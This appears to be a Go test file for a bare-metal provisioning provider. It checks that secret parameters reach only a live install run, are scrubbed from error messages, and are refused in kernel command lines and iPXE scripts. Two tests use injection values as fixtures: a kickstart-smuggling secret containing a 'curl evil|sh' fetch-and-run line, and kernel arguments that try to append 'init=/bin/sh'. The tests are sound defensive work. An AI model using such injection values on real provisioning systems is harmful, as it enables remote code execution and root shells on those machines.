package boot

import (
	"context"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/openbaremetal/terraform-provider-baremetal/internal/model"
)

// secretsFixture: a machine of cluster c1 with profile ps whose template
// reads secret params from all four layers and a generated secret.
func secretsFixture(t *testing.T) *httpFixture {
	t.Helper()
	f := newHTTPFixture(t, nil)
	ctx := context.Background()
	_, err := f.st.UpdateSite(ctx, func(s *model.Site) error {
		s.Params = map[string]string{"site": "from-site", "ntp": "ntp.site"}
		s.SecretParams = model.Secrets{"a": "site-a", "b": "site-b", "c": "site-c", "d": "site-d"}
		return nil
	})
	require.NoError(t, err)
	mustCreateProfile(t, f.st, &model.BootProfile{
		Name: "ps", Kernel: "vmlinuz", Cmdline: "console=ttyS0",
		Params:       map[string]string{"site": "from-profile"},
		SecretParams: model.Secrets{"b": "profile-b", "c": "profile-c", "d": "profile-d"},
		Templates: map[string]string{
			"ks": `a={{ secret "a" }} b={{ secret "b" }} c={{ secret "c" }} d={{ secret "d" }} ` +
				`join={{ generatedSecret "join" }} ntp={{ .Params.ntp }} site={{ .Params.site }}`,
			"leaky": `{{ include (secret "d") . }}`,
		},
	})
	_, err = f.st.CreateCluster(ctx, &model.Cluster{Name: "c1", Roles: []model.ClusterRole{{Name: "r", BootProfile: "ps"}},
		Members: []model.ClusterMember{{Machine: "m1", Role: "r"}}, SecretParams: model.Secrets{"c": "cluster-c", "d": "cluster-d"}})
	require.NoError(t, err)
	mustCreateMachine(t, f.st, &model.Machine{Name: "m1", MACs: []string{"52:54:00:00:00:01"}, BootProfile: "ps", Cluster: "c1", Role: "r",
		SecretParams: model.Secrets{"d": "machine-d"}, State: model.StateProvisioned,
		BMC: model.BMC{Endpoint: "http://127.0.0.1:1", Username: "u", Password: "p"},
		Run: &model.Run{ID: "r1", Token: "tok-1", Profile: "ps"}})
	return f
}

// TestSecretsServedOnlyToTheLiveRun: an install template fetched with the
// run's token gets the secret params by precedence (site < profile <
// cluster < machine) and a generated secret made once and kept; after the
// callback the same fetch is 403. Previews and dry runs show
// placeholders; the cmdline and the iPXE script, served without a token,
// refuse secrets.
func TestSecretsServedOnlyToTheLiveRun(t *testing.T) {
	f := secretsFixture(t)
	ctx := context.Background()

	code, body := f.get(t, "/machines/m1/templates/ks?token=tok-1", nil)
	require.Equal(t, 200, code, body)
	require.Regexp(t, `^a=site-a b=profile-b c=cluster-c d=machine-d join=[A-Za-z0-9_-]{43} ntp=ntp.site site=from-profile$`, body)
	join := strings.TrimPrefix(strings.Fields(body)[4], "join=")
	m, err := f.st.GetMachine(ctx, "m1")
	require.NoError(t, err)
	assert.Equal(t, join, m.GeneratedSecrets["join"], "the generated secret is stored with the machine")

	_, again := f.get(t, "/machines/m1/templates/ks?token=tok-1", nil)
	assert.Equal(t, body, again, "a generated secret is made once")

	// A render error that would quote a secret is scrubbed in the
	// events (render_failed) and the answer.
	code, body = f.get(t, "/machines/m1/templates/leaky?token=tok-1", nil)
	assert.Equal(t, 500, code)
	assert.NotContains(t, body, "machine-d")
	for _, s := range f.lc.recorded() {
		assert.NotContains(t, s.Data["error"], "machine-d", "a secret in a render_failed event")
	}

	// The preview: placeholders, never values; generated secrets too.
	out, _, found, err := Preview(ctx, f.st, "http://10.0.2.2:8081", m, "ks")
	require.NoError(t, err)
	require.True(t, found)
	assert.Equal(t, "a=<secret:a> b=<secret:b> c=<secret:c> d=<secret:d> join=<generatedSecret:join> ntp=ntp.site site=from-profile", out)

	// The run ends: its token is spent, the secrets with it.
	require.Equal(t, 204, f.post(t, "/machines/m1/callback?token=tok-1", `{"status":"ok"}`, nil))
	code, body = f.get(t, "/machines/m1/templates/ks?token=tok-1", nil)
	assert.Equal(t, 403, code)
	assert.NotContains(t, body, "site-a")

	// A new run keeps the generated secret (until it is rotated).
	_, err = f.st.UpdateMachine(ctx, "m1", func(m *model.Machine) (bool, error) {
		m.Run = &model.Run{ID: "r2", Token: "tok-2", Profile: "ps"}
		return false, nil
	})
	require.NoError(t, err)
	_, body = f.get(t, "/machines/m1/templates/ks?token=tok-2", nil)
	assert.Contains(t, body, "join="+join+" ")
}

func TestSecretsRefusedOutsideInstallTemplates(t *testing.T) {
	f := secretsFixture(t)
	ctx := context.Background()
	for field, p := range map[string]*model.BootProfile{
		"cmdline":     {Name: "pc", Kernel: "vmlinuz", Cmdline: `pw={{ secret "a" }}`},
		"ipxe_script": {Name: "pi", IPXEScript: "#!ipxe\necho {{ generatedSecret \"x\" }}\n"},
	} {
		mustCreateProfile(t, f.st, p)
		m := &model.Machine{Name: "m-" + field, MACs: []string{"52:54:00:00:00:09"}, BootProfile: p.Name, Run: &model.Run{ID: "r", Token: "t", Profile: p.Name}}
		err := Check(ctx, f.st, "http://10.0.2.2:8081", m, Proposed{})
		require.Error(t, err, field)
		assert.Contains(t, err.Error(), "secrets are served only in install templates", field)
		assert.Contains(t, err.Error(), `template "`+field+`"`, field)
	}
	// A secret no layer gives fails the dry run, naming it.
	mustCreateProfile(t, f.st, &model.BootProfile{Name: "pm", Kernel: "vmlinuz", Templates: map[string]string{"ks": `{{ secret "nope" }}`}})
	err := Check(ctx, f.st, "http://10.0.2.2:8081", &model.Machine{Name: "m2", BootProfile: "pm", MACs: []string{"52:54:00:00:00:08"}}, Proposed{})
	require.Error(t, err)
	assert.Contains(t, err.Error(), `secret "nope" is not set`)
	assert.Contains(t, err.Error(), `template "ks"`)
}

// TestSecretRefusalNamesSecretNotValue: a secret with a line break, where
// the template needs one line, is refused by name.
func TestSecretRefusalNamesSecretNotValue(t *testing.T) {
	f := secretsFixture(t)
	ctx := context.Background()
	_, err := f.st.UpdateProfile(ctx, "ps", func(p *model.BootProfile) error {
		p.Templates = map[string]string{"ks": `rootpw --iscrypted {{ secret "d" | ksQuote }}`}
		return nil
	})
	require.NoError(t, err)
	_, err = f.st.UpdateMachine(ctx, "m1", func(m *model.Machine) (bool, error) {
		m.SecretParams = model.Secrets{"d": "x\n%pre\ncurl evil|sh\n%end"}
		return false, nil
	})
	require.NoError(t, err)
	code, body := f.get(t, "/machines/m1/templates/ks?token=tok-1", nil)
	assert.Equal(t, 500, code)
	assert.NotContains(t, body, "evil")
	var found bool
	for _, s := range f.lc.recorded() {
		if s.Signal == model.SignalRenderFailed {
			found = true
			assert.Contains(t, s.Data["error"], `secret "d" contains a line break`)
			assert.NotContains(t, s.Data["error"], "evil")
		}
	}
	assert.True(t, found, "render_failed recorded")
}

// TestKernelArgWithSpaces: a param with spaces rendered raw into the
// cmdline is refused naming it; through kernelArg it is one quoted kernel
// argument, as the kernel splits its command line.
func TestKernelArgWithSpaces(t *testing.T) {
	s := testRenderServer(t)
	m := provisioningMachine(map[string]string{"v": "a b init=/bin/sh"})
	for _, tc := range []struct {
		cmdline string
		refused bool
	}{
		{"x={{ .Params.v }}", true},
		{`x="{{ .Params.v }}`, true}, // never closed
		{`x={{ kernelArg .Params.v }} quiet`, false},
		{`x="{{ .Params.v }}" quiet`, false},
	} {
		p := &model.BootProfile{Name: "p1", Kernel: "vmlinuz", Cmdline: tc.cmdline}
		got, err := s.renderIPXE(renderInput{machine: m, profile: p, token: "t"})
		if tc.refused {
			require.Error(t, err, tc.cmdline)
			assert.Contains(t, err.Error(), `param "v" contains whitespace`, tc.cmdline)
			assert.Contains(t, err.Error(), "cmdline", tc.cmdline)
			continue
		}
		require.NoError(t, err, tc.cmdline)
		var kernel string
		for _, l := range strings.Split(got, "\n") {
			if strings.HasPrefix(l, "kernel ") {
				kernel = l
			}
		}
		args := kernelSplit(strings.TrimPrefix(kernel, "kernel "))
		assert.Contains(t, args, `x=a b init=/bin/sh`, "%s: %q", tc.cmdline, kernel)
		for _, a := range args {
			assert.False(t, strings.HasPrefix(a, "init="), "%s added init=: %q", tc.cmdline, args)
		}
	}
	// A value holding a double quote cannot hide in quotes.
	m = provisioningMachine(map[string]string{"v": `a" init="/bin/sh`})
	_, err := s.renderIPXE(renderInput{machine: m, profile: &model.BootProfile{Name: "p1", Kernel: "vmlinuz", Cmdline: `x="{{ .Params.v }}"`}, token: "t"})
	require.ErrorContains(t, err, `param "v" contains whitespace`)
}

// kernelSplit splits a command line as the Linux kernel does
// (next_arg in lib/cmdline.c): at spaces outside double quotes, and the
// quotes are removed.
func kernelSplit(cmd string) []string {
	var out []string
	var cur strings.Builder
	inQuote, word := false, false
	for _, r := range cmd {
		switch {
		case r == '"':
			inQuote, word = !inQuote, true
		case r == ' ' && !inQuote:
			if word {
				out = append(out, cur.String())
			}
			cur.Reset()
			word = false
		default:
			cur.WriteRune(r)
			word = true
		}
	}
	if word {
		out = append(out, cur.String())
	}
	return out
}
